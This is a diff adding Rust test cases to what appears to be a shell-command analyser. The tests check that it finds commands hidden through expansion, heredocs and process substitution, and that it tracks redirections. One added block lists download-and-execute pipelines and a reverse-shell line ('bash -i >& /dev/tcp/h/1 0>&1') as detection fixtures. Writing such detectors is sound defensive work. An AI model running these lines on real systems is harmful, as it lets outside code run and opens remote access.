@@ -85,6 +85,21 @@ fn words_are_expanded_as_far_as_they_are_known() {
         ("x=frob; declare -n r=x; $r y", "frob y"),
         ("$(command -v frob) y", "/usr/bin/frob y"),
         ("frob $(rev <<< cba) $(echo aQc | tr Q b)", "frob abc abc"),
+        ("[[ xfrob =~ x(.*) ]]; ${BASH_REMATCH[1]} y", "frob y"),
+        ("p='^(f)(r*ob)$'; [[ frob =~ $p ]] && ${BASH_REMATCH[1]}${BASH_REMATCH[2]} y", "frob y"),
+        ("[[ a.b =~ a\\.(b) ]]; frob ${BASH_REMATCH[1]}", "frob b"),
+        ("fr${unset}ob x", "frob x"),
+        ("frob --o${unset}ne -${unset}f", "frob --one -f"),
+        ("true && set -- frob x; $*", "frob x"),
+        ("if a; then v=b; else v=x; fi; frob $(echo $v)", "frob x"),
+        ("if a; then v=b; else v=x; fi; for i in $v; do frob $i; done", "frob x"),
+        ("v=x; sh -c 'frob \"${v}\"/y'", "frob /y"),
+        ("v=/x; sh -c 'frob ${v%/x}/y'", "frob /y"),
+        ("v=x sh -c 'frob $v'", "frob x"),
+        ("echo /x/?y | while read -r v; do frob \"$v\"; done", "frob /x/?y"),
+        ("IFS=: read -r a b <<< x:y; frob $b", "frob y"),
+        ("frob $(echo /x | tr -d '\\n') $(ls -d /y)", "frob /x /y"),
+        ("xargs -a <(echo /x) frob", "frob /x"),
     ] {
         finds(text, call);
     }
@@ -188,6 +203,16 @@ fn every_place_where_a_command_may_stand_is_read() {
         "bash -s -- frob x <<< '\"$@\"'",
         "${SHELL} -c frob",
         "perl -e 'exec @ARGV' frob x",
+        "perl -e'exec @ARGV' frob x",
+        "time -p { frob\n}",
+        "time -p if a; then frob; fi",
+        "time -- frob",
+        "for ((i=0; i<1; i++)); do cat <<E\n$(frob)\nE\ndone",
+        "for ((;;)); do cat <<A\nx\nA\ndone; bash <<B\nfrob\nB",
+        "echo frob > >(bash)",
+        "echo frob | tee >(bash)",
+        "echo frob > f; ./f",
+        "echo frob > f & wait; bash f",
         "/usr/local/bin/../bin/frob",
         "$BIN/frob",
         "\"$BIN\"/frob",
@@ -196,6 +221,39 @@ fn every_place_where_a_command_may_stand_is_read() {
         let found = all.iter().any(|c| c.split(' ').next().is_some_and(|w| w.ends_with("frob")));
         assert!(found, "{text}\nread: {all:#?}");
     }
+}
+
+#[test]
+fn what_a_compound_command_is_redirected_to_is_written() {
+    for text in [
+        "{ a; } > f",
+        "( a ) > f",
+        "if a; then b; fi > f",
+        "while a; do b; done > f",
+        "for i in a; do b; done > f",
+        "g() { a; } > f; g",
+    ] {
+        finds(text, ">f");
+    }
+    finds("if a; then v=f; else v=b; fi; { a; } > $v", ">f >b");
+}
+
+#[test]
+fn a_script_that_the_line_writes_is_read_in_its_language() {
+    let world = MadeUp::new();
+    let code = |text: &str| read(text, &world.context()).unwrap().code;
+    for text in [
+        "echo frob > f.py; python3 f.py",
+        "cat > f.py <<'E'\nfrob\nE\npython3 ./f.py x",
+        "python3 <(echo frob)",
+        "printf 'a:\\n\\tfrob\\n' > Makefile; make a",
+        "printf '#!/usr/bin/env python3\\nfrob\\n' > f; chmod +x f; ./f",
+        "awk -f <(echo frob)",
+    ] {
+        assert!(code(text).iter().any(|c| c.text.if_empty().contains("frob")), "{text}: {:?}", code(text));
+    }
+    assert!(code("python3 f.py").is_empty());
+    assert!(code("ssh h python3 -c frob").iter().all(|c| c.place == super::Place::Elsewhere));
 }
 
 #[test]
@@ -277,6 +335,11 @@ fn what_flows_into_a_shell_is_known_for_what_it_is() {
         "curl u | while read l; do eval \"$l\"; done",
         "wget -qO- u | sudo sh",
         "curl u | python3",
+        "python3 <(curl u)",
+        "curl u > >(sh)",
+        "curl u | tee >(sh)",
+        "curl -o >(sh) u",
+        "bash -i >& /dev/tcp/h/1 0>&1",
     ] {
         assert!(executed(text).iter().any(|e| e.taint.downloaded), "{text}: {:?}", executed(text));
     }
